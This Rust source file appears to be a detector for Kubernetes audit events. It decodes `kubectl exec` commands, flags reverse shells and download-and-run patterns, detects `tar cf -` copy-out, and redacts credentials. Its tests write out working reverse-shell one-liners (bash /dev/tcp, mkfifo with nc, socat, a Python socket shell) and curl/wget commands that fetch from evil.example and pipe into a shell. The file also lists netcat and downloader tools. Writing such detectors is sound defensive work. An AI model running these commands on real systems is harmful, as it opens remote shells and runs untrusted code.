//! Reading the command line of a `kubectl exec` from its audit event, and
//! recognising what it does. The apiserver records the command only in the
//! request URI, as repeated `command=` query parameters, URL-encoded (over
//! SPDY and over WebSocket alike): `sh -c "curl x | sh"` arrives as
//! `?command=sh&command=-c&command=curl+x+%7C+sh`.

/// Every `command` parameter of the URI, decoded, in order. Parameters that
/// do not decode are skipped rather than failing the whole command.
pub fn exec_command(uri: &str) -> Vec<String> {
    query_values(uri, "command")
}

/// Every value of the query parameter `name`, decoded, in order.
pub fn query_values(uri: &str, name: &str) -> Vec<String> {
    let without_fragment = uri.split('#').next().unwrap_or(uri);
    let Some((_, query)) = without_fragment.split_once('?') else {
        return Vec::new();
    };
    query
        .split('&')
        .filter_map(|part| {
            let (k, v) = part.split_once('=').unwrap_or((part, ""));
            (unescape(k)? == name).then(|| unescape(v)).flatten()
        })
        .collect()
}

fn unescape(s: &str) -> Option<String> {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'+' => out.push(b' '),
            b'%' => {
                let hex = s.get(i + 1..i + 3)?;
                out.push(u8::from_str_radix(hex, 16).ok()?);
                i += 2;
            }
            b => out.push(b),
        }
        i += 1;
    }
    Some(String::from_utf8_lossy(&out).into_owned())
}

/// The words of a piece of shell text, with quotes removed. Good enough to
/// recognise commands; not a shell parser.
fn words(text: &str) -> Vec<&str> {
    text.split(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '`')
        .filter(|w| !w.is_empty())
        .collect()
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Where the program a pipeline stage runs is, skipping wrappers such as
/// `sudo`, `env VAR=x` and `sh -c` (whose script the joined command line
/// already holds inline).
fn program_at(stage: &[&str]) -> Option<usize> {
    let mut i = 0;
    while i < stage.len() {
        let w = basename(stage[i]);
        let shell_c = SHELLS[..6].contains(&w)
            && stage
                .get(i + 1)
                .is_some_and(|f| f.starts_with('-') && f.ends_with('c') && f.len() <= 4);
        if shell_c {
            i += 2;
            continue;
        }
        if matches!(w, "sudo" | "env" | "exec" | "nohup" | "busybox" | "{") || w.contains('=') {
            i += 1;
            continue;
        }
        return Some(i);
    }
    None
}

fn program<'a>(stage: &[&'a str]) -> Option<&'a str> {
    program_at(stage).map(|i| basename(stage[i]))
}

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ash", "ksh", "python", "python2", "python3", "perl", "ruby",
    "php", "node",
];
const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "tftp"];
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

/// The sequences of commands (split on `;`, `&&`, `||`, `&`, newlines and
/// `$(`), each a pipeline of stages (split on `|`), each stage its words.
fn pipelines(text: &str) -> Vec<Vec<Vec<&str>>> {
    text.split([';', '\n', '&', '(', ')'])
        .map(|seq| {
            seq.split('|')
                .map(words)
                .filter(|stage| !stage.is_empty())
                .collect::<Vec<_>>()
        })
        .filter(|p: &Vec<Vec<&str>>| !p.is_empty())
        .collect()
}

/// What makes a command a reverse shell or a download-and-run, if it is one.
pub fn shell_or_download(command: &[String]) -> Option<&'static str> {
    let text = command.join(" ");
    let lower = text.to_ascii_lowercase();
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        return Some("reverse shell through /dev/tcp");
    }
    if lower.contains("mkfifo")
        || words(&lower)
            .windows(3)
            .any(|w| w[0].ends_with("mknod") && w[2] == "p")
    {
        return Some("named pipe (mkfifo), the usual reverse-shell plumbing");
    }
    for pipeline in pipelines(&lower) {
        for (i, stage) in pipeline.iter().enumerate() {
            let prog = program(stage).unwrap_or("");
            if NETCATS.contains(&prog)
                && stage.iter().any(|w| {
                    matches!(*w, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
                        || (w.starts_with("-e/") || w.starts_with("-c/"))
                })
            {
                return Some("netcat running a program (nc -e)");
            }
            if prog == "socat"
                && stage
                    .iter()
                    .any(|w| w.starts_with("exec:") || w.starts_with("system:"))
            {
                return Some("socat running a program");
            }
            let later_shell = || {
                pipeline[i + 1..]
                    .iter()
                    .any(|s| program(s).is_some_and(|p| SHELLS.contains(&p)))
            };
            if DOWNLOADERS.contains(&prog) && later_shell() {
                return Some("download piped into a shell");
            }
            if prog == "base64"
                && stage
                    .iter()
                    .any(|w| matches!(*w, "-d" | "--decode" | "-D" | "-di"))
                && later_shell()
            {
                return Some("base64-decoded payload piped into a shell");
            }
        }
    }
    let all = words(&lower);
    let has = |w: &str| all.iter().any(|x| basename(x) == w);
    if DOWNLOADERS.iter().any(|d| has(d))
        && (lower.contains("chmod +x") || lower.contains("chmod 7") || lower.contains("chmod u+x"))
    {
        return Some("download made executable");
    }
    let interpreter = all.iter().any(|w| {
        matches!(
            basename(w),
            "python" | "python2" | "python3" | "perl" | "ruby" | "php"
        )
    });
    if interpreter
        && (lower.contains("socket") || lower.contains("fsockopen"))
        && [
            "subprocess",
            "pty.spawn",
            "dup2",
            "exec(",
            "/bin/sh",
            "/bin/bash",
            "system(",
        ]
        .iter()
        .any(|m| lower.contains(m))
    {
        return Some("scripted reverse shell (socket + exec)");
    }
    None
}

/// The first credential indicator the command mentions.
pub fn credential_indicator<'a>(command: &[String], indicators: &'a [String]) -> Option<&'a str> {
    let lower = command.join(" ").to_ascii_lowercase();
    indicators
        .iter()
        .find(|i| lower.contains(&i.to_ascii_lowercase()))
        .map(String::as_str)
}

/// Whether the command writes a tar archive to stdout (`tar cf - ...`),
/// which is what `kubectl cp` runs in the pod to copy files out of it.
/// Copying into a pod runs `tar xf -` and is not this.
pub fn tar_to_stdout(command: &[String]) -> bool {
    let text = command.join(" ");
    pipelines(&text).iter().flatten().any(|stage| {
        let Some(at) = program_at(stage).filter(|&i| basename(stage[i]) == "tar") else {
            return false;
        };
        let args = stage[at + 1..].iter();
        let mut create = false;
        let mut stdout = false;
        let mut file_flag_pending = false;
        for w in args {
            if *w == "--create" {
                create = true;
            } else if matches!(*w, "--file=-" | "-f-" | "--to-stdout")
                || (*w == "-" && file_flag_pending)
            {
                stdout = true;
            } else if *w == "--file" {
                file_flag_pending = true;
                continue;
            } else if !w.starts_with("--")
                && w.trim_start_matches('-')
                    .chars()
                    .all(|c| c.is_ascii_alphabetic())
                && !w.trim_start_matches('-').is_empty()
            {
                let flags = w.trim_start_matches('-');
                if flags.contains('c') {
                    create = true;
                }
                if flags.ends_with('f') {
                    file_flag_pending = true;
                    continue;
                }
            }
            file_flag_pending = false;
        }
        create && stdout
    })
}

/// The command line for an alert, with what looks like a credential
/// replaced: the value after `Bearer`, `Basic`, `--token`, `--password`,
/// `-u`/`--user` (curl user:password), and after `token=`, `password=`, `secret=`, ...
/// Alerts travel to many receivers; a command line can carry a token.
pub fn redact(command: &[String]) -> String {
    const VALUE_KEYS: &[&str] = &[
        "token=",
        "password=",
        "passwd=",
        "pwd=",
        "secret=",
        "apikey=",
        "api_key=",
        "api-key=",
        "access_key=",
        "secret_key=",
        "key=",
        "credential=",
        "auth=",
    ];
    const NEXT_KEYS: &[&str] = &[
        "bearer",
        "basic",
        "--token",
        "--password",
        "-u",
        "--user",
        "--pass",
        "token:",
        "x-api-key:",
        "authorization:",
    ];
    let mut out = Vec::new();
    let mut redact_next = false;
    // Argument boundaries do not matter for display: one list of words.
    for w in command.iter().flat_map(|arg| arg.split(' ')) {
        if w.is_empty() {
            continue;
        }
        let lower = w.to_ascii_lowercase();
        if redact_next {
            out.push("<redacted>".to_string());
            // `Authorization: Bearer <token>`: the scheme, then the value.
            redact_next = lower == "bearer" || lower == "basic";
            continue;
        }
        if NEXT_KEYS.contains(&lower.trim_matches(|c| c == '"' || c == '\'')) {
            redact_next = true;
            out.push(w.to_string());
            continue;
        }
        match VALUE_KEYS
            .iter()
            .find_map(|k| lower.find(k).map(|at| at + k.len()))
        {
            Some(at) if at < w.len() => out.push(format!("{}<redacted>", &w[..at])),
            _ => out.push(w.to_string()),
        }
    }
    out.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(parts: &[&str]) -> Vec<String> {
        parts.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn commands_decode_from_repeated_params() {
        let uri = "/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=curl+http%3A%2F%2Fx%2Fa+%7C+sh&container=c&stdin=true";
        assert_eq!(exec_command(uri), ["sh", "-c", "curl http://x/a | sh"]);
        assert!(exec_command("/api/v1/namespaces/d/pods/p/exec").is_empty());
        assert_eq!(exec_command("/x?command=%zz&command=ls"), ["ls"]);
    }

    #[test]
    fn reverse_shells_and_download_and_run_are_recognised() {
        let yes = [
            cmd(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]),
            cmd(&[
                "sh",
                "-c",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 80 >/tmp/f",
            ]),
            cmd(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
            cmd(&["/usr/bin/ncat", "10.0.0.1", "4444", "--sh-exec", "id"]),
            cmd(&["sh", "-c", "curl -fsSL http://evil.example/x.sh | sh"]),
            cmd(&["sh", "-c", "wget -qO- http://evil.example/x | sudo bash -s"]),
            cmd(&["sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"]),
            cmd(&[
                "sh",
                "-c",
                "curl -o /tmp/m http://x/m && chmod +x /tmp/m && /tmp/m",
            ]),
            cmd(&[
                "python3",
                "-c",
                "import socket,subprocess,os;s=socket.socket();s.connect(('1.2.3.4',1));os.dup2(s.fileno(),0)",
            ]),
            cmd(&["socat", "tcp:1.2.3.4:4444", "exec:/bin/sh"]),
        ];
        for c in &yes {
            assert!(shell_or_download(c).is_some(), "{c:?}");
        }
        let no = [
            cmd(&["sh"]),
            cmd(&["curl", "-s", "http://localhost:8080/healthz"]),
            cmd(&["wget", "-O", "/tmp/file", "http://example.com/f"]),
            cmd(&["nc", "-z", "db", "5432"]),
            cmd(&["sh", "-c", "echo aGVsbG8= | base64 -d"]),
            cmd(&["sh", "-c", "curl -s http://x/metrics | grep up"]),
            cmd(&["python3", "-c", "print(1)"]),
            cmd(&["ls", "/dev/"]),
        ];
        for c in &no {
            assert_eq!(shell_or_download(c), None, "{c:?}");
        }
    }

    #[test]
    fn tar_to_stdout_is_copy_out_only() {
        assert!(tar_to_stdout(&cmd(&["tar", "cf", "-", "/etc/passwd"])));
        assert!(tar_to_stdout(&cmd(&[
            "tar", "-czf", "-", "-C", "/data", "."
        ])));
        assert!(tar_to_stdout(&cmd(&["tar", "--create", "--file=-", "/x"])));
        assert!(tar_to_stdout(&cmd(&[
            "sh",
            "-c",
            "tar cf - /var/lib/db | base64"
        ])));
        assert!(!tar_to_stdout(&cmd(&["tar", "xmf", "-", "-C", "/tmp"])));
        assert!(!tar_to_stdout(&cmd(&[
            "tar",
            "cf",
            "/tmp/backup.tar",
            "/data"
        ])));
        assert!(!tar_to_stdout(&cmd(&["ls", "-", "cf"])));
    }

    #[test]
    fn credentials_in_command_lines_are_redacted() {
        let c = cmd(&[
            "curl",
            "-H",
            "Authorization: Bearer abc.def",
            "https://x/?token=sekret",
        ]);
        let r = redact(&c);
        assert!(!r.contains("abc.def") && !r.contains("sekret"), "{r}");
        assert!(r.contains("token=<redacted>"), "{r}");
        let c = cmd(&["kubectl", "--token", "s3cr3t", "get", "pods"]);
        let r = redact(&c);
        assert!(!r.contains("s3cr3t"), "{r}");
        assert!(r.contains("get pods"), "{r}");
        assert_eq!(redact(&cmd(&["tar", "cf", "-", "/etc"])), "tar cf - /etc");
    }
}
